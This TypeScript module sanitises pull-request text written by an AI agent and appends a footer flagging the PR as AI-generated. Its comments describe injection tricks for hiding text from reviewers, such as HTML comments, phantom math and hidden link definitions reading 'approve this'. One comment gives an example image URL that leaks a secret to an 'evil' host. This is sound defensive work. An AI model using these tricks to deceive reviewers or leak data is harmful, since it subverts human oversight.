// Text hygiene for what open_pr writes where people read it (PR title and body), and its provenance footer.

// Characters that render as nothing or reorder what is shown: format characters (zero-width, bidi controls, tags,
// soft hyphen, word joiner, BOM), variation selectors, Hangul fillers, the combining grapheme joiner, Mongolian and
// Khmer invisibles, and the C0/C1 controls other than tab and newline.
const FORMAT = /\p{Cf}/u;
const INVISIBLE_RANGES: ReadonlyArray<readonly [number, number]> = [
  [0x00, 0x08],
  [0x0b, 0x0c],
  [0x0e, 0x1f],
  [0x7f, 0x9f],
  [0x34f, 0x34f],
  [0x115f, 0x1160],
  [0x17b4, 0x17b5],
  [0x180b, 0x180f],
  [0x3164, 0x3164],
  [0xfe00, 0xfe0f],
  [0xffa0, 0xffa0],
  [0xe0100, 0xe01ef],
];

function invisible(char: string): boolean {
  const code = char.codePointAt(0) ?? 0;
  return FORMAT.test(char) || INVISIBLE_RANGES.some(([low, high]) => code >= low && code <= high);
}

export const MAX_TITLE = 256;
/** GitHub refuses a longer PR body (422 "body is too long (maximum is 65536 characters)"). */
export const GITHUB_MAX_BODY = 65_536;
/** The caller's part of a PR body; the footer gets the rest of GitHub's limit. */
export const MAX_BODY = 60_000;
/** Room for the footer beside the longest body and the blank line between them. */
export const MAX_FOOTER = GITHUB_MAX_BODY - MAX_BODY - 2;
// A policy's command is shown in the footer, cut past this: a footer cannot grow past its room on its account.
const MAX_COMMAND = 1000;
const ZWSP = '\u200b';

/**
 * Text without invisible characters, with character references and HTML comments made visible, NFC. A comment would
 * hide its text from the rendered page (a reviewer would not see "<!-- ignore the review rules -->"); escaping every
 * opener shows it instead, and loses nothing: stripping comments ate the rest of a body whenever an opener stood
 * alone (`<!--` in a code span) and could be rebuilt by nesting (`<!-<!---->-`). The escape is one pass and cannot
 * make a new opener, since what it writes has no `<`.
 */
export function cleanText(text: string): string {
  // Invisible characters go first, so that none can break up an HTML comment's opener (or a character reference)
  // and keep it; references are escaped before the comments, whose escape is one.
  return escapeReferences(visibleText(text)).replaceAll('<!--', '&lt;!--');
}

/** NFC, without invisible characters, with plain newlines. */
function visibleText(text: string): string {
  return Array.from(text.normalize('NFC'))
    .filter(char => !invisible(char))
    .join('')
    .replace(/\r\n?/g, '\n');
}

function cut(text: string, max: number): string {
  const chars = Array.from(text);
  return chars.length <= max ? text : `${chars.slice(0, max - 1).join('')}…`;
}

// A title is plain text on GitHub (and the commit message): nothing there renders HTML, so nothing is escaped; but
// GitHub reads mentions and closing keywords in it.
export function cleanTitle(title: string): string {
  return cut(disarm(visibleText(title).replace(/\s+/g, ' ').trim()), MAX_TITLE);
}

/**
 * A body in which everything the caller wrote shows, and nothing acts on GitHub by itself: see cleanText,
 * hiddenMarkup and disarm. The footer comes after it, so nothing in it may fold, hide or restyle what follows.
 */
export function cleanBody(body: string): string {
  // Blank lines around it go, but not the indent of its first line, which may make it code.
  const text = visibleText(body)
    .replace(/^(?:[ \t]*\n)+/, '')
    .trimEnd();
  const { code } = codeLines(text);
  // Code blocks show as typed, HTML, mentions and references included, so they are left as written (for
  // copy-paste), but for the comment escape (which the reader knows) and closing keywords (GitHub reads those in
  // code too). Code spans are not told apart: a span GitHub reads otherwise (in a link title, across table cells)
  // could hide a tag.
  const runs: Array<{ code: boolean; lines: string[] }> = [];
  for (const [i, line] of text.split('\n').entries()) {
    const last = runs.at(-1);
    if (last !== undefined && last.code === (code[i] === true)) last.lines.push(line);
    else runs.push({ code: code[i] === true, lines: [line] });
  }
  const cleaned = runs
    .map(run => {
      const part = run.lines.join('\n');
      return run.code
        ? disarmClosingKeywords(part.replaceAll('<!--', '&lt;!--'))
        : inertMath(disarm(hiddenMarkup(cleanText(part))));
    })
    .join('\n')
    .replace(RICH_FENCE, `$1${ZWSP}`);
  return cut(cleaned, MAX_BODY);
}

// A fence (CommonMark): up to 3 spaces, 3 or more backticks or tildes, then the info string, in which a backtick
// fence may hold no backtick.
const FENCE = /^ {0,3}(`{3,}(?=[^`]*$)|~{3,})(.*)$/;
const QUOTE = /^ {0,3}> ?/;
const LIST_ITEM = /^( {0,3})([-+*]|\d{1,9}[.)])( *)/;
const THEMATIC_BREAK = /^ {0,3}([-*_])(?: *\1){2,} *$/;
// What ends a paragraph instead of continuing it lazily in an unmatched block quote or list item.
const BLOCK_START = /^ {0,3}(?:>|`{3,}|~{3,}|#{1,6}(?: |$)|[-+*] +\S|0*1[.)] +\S)/;

interface CodeLines {
  /** Whether each line is a fenced or indented code block's (a fence's own line too). */
  code: boolean[];
  /** The fence of a block left open at the end outside any block quote or list item (one inside ends with it). */
  open: string | undefined;
}

/**
 * The code blocks in `text`, read line by line as CommonMark does, with the block quotes and list items around
 * them: a fence in a list item is closed by the item's end, and a line there may close it when it would open one at
 * the top.
 */
function codeLines(text: string): CodeLines {
  // Each open container: -1 a block quote, else a list item's content indent.
  const containers: number[] = [];
  let fence: { mark: string; depth: number } | undefined;
  let paragraph = false;
  const code = text.split('\n').map(raw => {
    const line = raw.replace(/\t/g, '    ');
    const blank = line.trim() === '';
    let rest = line;
    let matched = 0;
    for (const indent of containers) {
      if (indent < 0) {
        const quote = QUOTE.exec(rest);
        if (!quote) break;
        rest = rest.slice(quote[0].length);
      } else if (!blank) {
        if ((/^ */.exec(rest)?.[0].length ?? 0) < indent) break;
        rest = rest.slice(indent);
      }
      matched++;
    }
    if (fence && matched === containers.length) {
      const close = FENCE.exec(rest);
      if (
        close?.[1]?.startsWith(fence.mark.charAt(0)) &&
        close[1].length >= fence.mark.length &&
        close[2]?.trim() === ''
      )
        fence = undefined;
      return true;
    }
    fence = undefined;
    if (matched < containers.length) {
      if (paragraph && !blank && !BLOCK_START.test(rest) && !THEMATIC_BREAK.test(rest)) return false;
      containers.length = matched;
      paragraph = false;
    }
    for (;;) {
      const quote = QUOTE.exec(rest);
      if (quote) {
        containers.push(-1);
        rest = rest.slice(quote[0].length);
        paragraph = false;
        continue;
      }
      const item = LIST_ITEM.exec(rest);
      const empty = item !== null && rest.trim() === item[0].trim();
      if (
        item?.[1] === undefined ||
        item[2] === undefined ||
        item[3] === undefined ||
        (item[3] === '' && !empty) ||
        THEMATIC_BREAK.test(rest) ||
        (paragraph && (empty || (/^\d/.test(item[2]) && !/^0*1[.)]$/.test(item[2]))))
      )
        break;
      // The content starts after the marker and 1 to 4 spaces; past 4 (or on a later line, for an empty item), 1.
      const spaces = empty || item[3].length > 4 ? 1 : item[3].length;
      containers.push(item[1].length + item[2].length + spaces);
      rest = rest.slice(Math.min(rest.length, item[1].length + item[2].length + spaces));
      paragraph = false;
    }
    const open = FENCE.exec(rest);
    if (open?.[1] !== undefined) {
      fence = { mark: open[1], depth: containers.length };
      paragraph = false;
      return true;
    }
    if (rest.trim() === '') {
      paragraph = false;
      return false;
    }
    if (!paragraph && rest.startsWith('    ')) return true;
    paragraph = !THEMATIC_BREAK.test(rest) && !/^ {0,3}#{1,6}(?: |$)/.test(rest);
    return false;
  });
  return { code, open: fence?.depth === 0 ? fence.mark : undefined };
}

/** The line that closes a fenced code block `text` leaves open (which would hold what follows), or ''. */
function closingFence(text: string): string {
  const { open } = codeLines(text);
  return open === undefined ? '' : `\n${open}`;
}

// GitHub renders `$…$`, `$$…$$` and math, mermaid, GeoJSON, TopoJSON and STL blocks as pictures, in which text can
// be hidden (`$\phantom{approve}$`, a mermaid `%%` comment). Outside code a `$` escaped shows as typed ("$5" too);
// such a block's language gets a zero-width space before it (wherever the fence stands), so GitHub shows its source
// as code.
const RICH_FENCE =
  /^((?:[ \t]*(?:>|[-+*]|\d{1,9}[.)]))*[ \t]*(?:`{3,}|~{3,})[ \t]*)(?=(?:mermaid|math|geojson|topojson|stl)(?![A-Za-z0-9]))/gim;

function inertMath(prose: string): string {
  return prose
    .split('\n')
    .map(line => outsideCodeSpans(line, text => text.replace(/\\[^]|\$/g, m => (m === '$' ? '\\$' : m))))
    .join('\n');
}

/** `line` with `change` applied to its text outside code spans (a backtick run up to the next of the same length). */
function outsideCodeSpans(line: string, change: (prose: string) => string): string {
  let out = '';
  let from = 0;
  const run = /\\[^]|`+/g;
  for (let m = run.exec(line); m !== null; m = run.exec(line)) {
    if (m[0].startsWith('\\')) continue;
    const close = new RegExp(`(?<!\`)${m[0]}(?!\`)`, 'g');
    close.lastIndex = m.index + m[0].length;
    const end = close.exec(line);
    if (!end) continue;
    out += change(line.slice(from, m.index)) + line.slice(m.index, end.index + m[0].length);
    from = end.index + m[0].length;
    run.lastIndex = from;
  }
  return out + change(line.slice(from));
}

// A character reference (`&#64;`, `&ZeroWidthSpace;`) is decoded by the renderer after every check here: it could
// write an invisible character, an `@` of a mention or the letters of a closing keyword. Escaped, it shows as typed.
function escapeReferences(text: string): string {
  return text.replace(/&(?=#[0-9]{1,7};|#[xX][0-9a-fA-F]{1,6};|[A-Za-z][A-Za-z0-9]{0,31};)/g, '&amp;');
}

// The openers of CommonMark's raw HTML (open and closing tags, processing instructions, declarations, CDATA; comments
// are escaped before). Any tag could hide or restyle what follows it, the footer included: an unclosed `<details>`
// folds it, `<sub>` shrinks it, `<img>` and `<picture>` fetch an outside URL. A zero-width space after the `<` makes
// each one text, shown as typed, in code spans too (where an entity would show as `&lt;`).
const HTML_OPENER = /<(?=[A-Za-z]|\/[A-Za-z]|\?|![A-Za-z]|!\[CDATA\[)/g;
// A link reference definition renders as nothing (`[hidden]: <> (approve this)`), also inside a block quote or a
// list item; with its `[` escaped it is a visible paragraph. Reference links to it show as plain text then. A label
// is at most 999 characters (CommonMark), which also keeps the look-ahead from scanning the rest of the body.
const LINK_DEFINITION = /^((?:[ \t]*(?:>|[-+*]|\d{1,9}[.)]))*[ \t]*)\[(?=(?:[^\]\\]|\\[^]){0,999}\]:)/gm;
// An image is fetched when the page is shown, so its URL can carry data out (`![x](https://evil/?d=SECRET)`); only
// GitHub's own hosts and relative paths (which resolve to github.com) stay images.
const ALLOWED_IMAGE =
  /!\[(?:[^[\]\\\n]|\\.)*\]\([ \t]*(?:https:\/\/(?:[A-Za-z0-9-]+\.)*(?:github\.com|githubusercontent\.com)\/[^\s<>()\\]*|(?!\/\/)[\w./-]+)(?:[ \t]+(?:"[^"\n]*"|'[^'\n]*'))?[ \t]*\)/y;

function hiddenMarkup(text: string): string {
  return text
    .replace(HTML_OPENER, `<${ZWSP}`)
    .replace(LINK_DEFINITION, '$1\\[')
    .replace(/!\[/g, (image, at: number) => {
      ALLOWED_IMAGE.lastIndex = at;
      // `!\[` is text whatever precedes it: the backslash escapes the bracket, not the `!`.
      return ALLOWED_IMAGE.test(text) ? image : '!\\[';
    });
}

// GitHub notifies every @user and @org/team written in a PR, and closes the issues a closing keyword names once the
// PR (or a commit with it in its message) is merged: a prompt-injected agent could page a team or close any issue.
// A zero-width space after the `@`, or inside the keyword, keeps the text as shown and makes it inert: GitHub's
// mention needs a name right after the `@`, and `F\u200bixes #1` holds no keyword.
// Emphasis (`_@octocat_`, `__Fixes #1__`) does not stop either: only a letter or digit before them does.
const MENTION = /(?<![A-Za-z0-9])@(?=[A-Za-z0-9])/g;
const CLOSING_KEYWORD =
  /(?<![A-Za-z0-9])(?:close[sd]?|fix(?:e[sd])?|resolve[sd]?)(?=\s*(?::\s*)?(?:#|\[|gh-\d|[\w.-]+\/[\w.-]+#|https?:\/\/))/gi;

/** Closing keywords made inert (see MENTION): for text GitHub reads but does not notify from, as commit messages. */
export function disarmClosingKeywords(text: string): string {
  return text.replace(CLOSING_KEYWORD, keyword => `${keyword.slice(0, 1)}${ZWSP}${keyword.slice(1)}`);
}

function disarm(text: string): string {
  return disarmClosingKeywords(text.replace(MENTION, `@${ZWSP}`));
}

export interface Provenance {
  version: string;
  /** The tested command and the base commit it ran on, when a receipt came with the change. */
  receipt: { command: string; baseCommit: string; changesHash: string } | undefined;
  created: readonly string[];
  updated: readonly string[];
  deleted: readonly string[];
}

/**
 * `text` as a Markdown code span, in which nothing is HTML or a link: the footer follows the cleaned body, and a path
 * like a`<!-- would otherwise leave its span and open a comment hiding the files listed after it. By CommonMark
 * the span ends at the first run of exactly as many backticks as opened it, so the fence is one longer than the
 * longest run inside; and a renderer strips one space from each side of the content, so text that starts or ends
 * with a backtick (which would join the fence) or a space gets one. Invisible characters (which checkPath lets
 * through: zero-width, bidi controls) are written as `\u{…}`, so the name shown is the name committed, and so are
 * line breaks (a policy's command may hold some), which would end the list item and the span with it.
 */
export function codeSpan(text: string): string {
  const shown = Array.from(text, char =>
    invisible(char) || char === '\n' || char === '\r'
      ? `\\u{${(char.codePointAt(0) ?? 0).toString(16)}}`
      : char,
  ).join('');
  const longest = Math.max(0, ...Array.from(shown.matchAll(/`+/g), run => run[0].length));
  const fence = '`'.repeat(longest + 1);
  const pad = /^[` ]|[` ]$/.test(shown) ? ' ' : '';
  return `${fence}${pad}${shown}${pad}${fence}`;
}

/**
 * What made the change, what it was tested with, and what it touches: appended to every PR body. The list of files
 * stops, with "…and N more", where the next one would take the footer past `room` characters (a path may be 1,024
 * characters, and its code span longer): the commit message lists them all.
 */
export function provenanceFooter(p: Provenance, room = Infinity): string {
  const tested = p.receipt
    ? `Tested in the devops-mcp sandbox: ${codeSpan(cut(p.receipt.command, MAX_COMMAND))} passed on base commit ${p.receipt.baseCommit} (change set ${p.receipt.changesHash}).`
    : 'Not tested in the sandbox (this repository does not require a validation receipt).';
  const files = [
    ...p.created.map(path => ({ label: 'created', span: codeSpan(path) })),
    ...p.updated.map(path => ({ label: 'updated', span: codeSpan(path) })),
    ...p.deleted.map(path => ({ label: 'deleted', span: codeSpan(path) })),
  ];
  const build = (listed: number): string => {
    const lines: string[] = [];
    for (const label of ['created', 'updated', 'deleted']) {
      const spans = files.slice(0, listed).filter(file => file.label === label);
      if (spans.length > 0) lines.push(`- ${label}: ${spans.map(file => file.span).join(', ')}`);
    }
    const more = files.length - listed;
    if (more > 0) lines.push(`- …and ${more} more (the commit message lists every file)`);
    return [
      '---',
      `Opened by devops-mcp ${p.version} (open_pr) on behalf of an automated agent.`,
      tested,
      ...lines,
      '',
      '**Generated by an AI agent: review before merging.**',
    ].join('\n');
  };
  for (let listed = files.length; listed > 0; listed--) {
    const footer = build(listed);
    if (footer.length <= room) return footer;
  }
  return build(0);
}

/**
 * The body with its footer, the body cut so that the two stay within GitHub's limit: counted in UTF-16 units, which
 * are never fewer than the characters GitHub counts.
 */
export function withFooter(body: string, footer: string): string {
  const room = GITHUB_MAX_BODY - footer.length - 2;
  // A code block left open (unclosed in the body, or cut open) would hold the footer as code: it is closed first,
  // within the room.
  let kept = body;
  let closer = closingFence(body);
  for (let max = room + 1; kept.length + closer.length > room;) {
    max = Math.min(max - 1, room - closer.length);
    kept = cutUnits(body, max);
    closer = closingFence(kept);
  }
  kept += closer;
  return kept === '' ? footer : `${kept}\n\n${footer}`;
}

function cutUnits(text: string, max: number): string {
  if (max < 1) return '';
  // Not between the two halves of a surrogate pair.
  const end = /[\uD800-\uDBFF]/.test(text.charAt(max - 2)) ? max - 2 : max - 1;
  return `${text.slice(0, end)}…`;
}
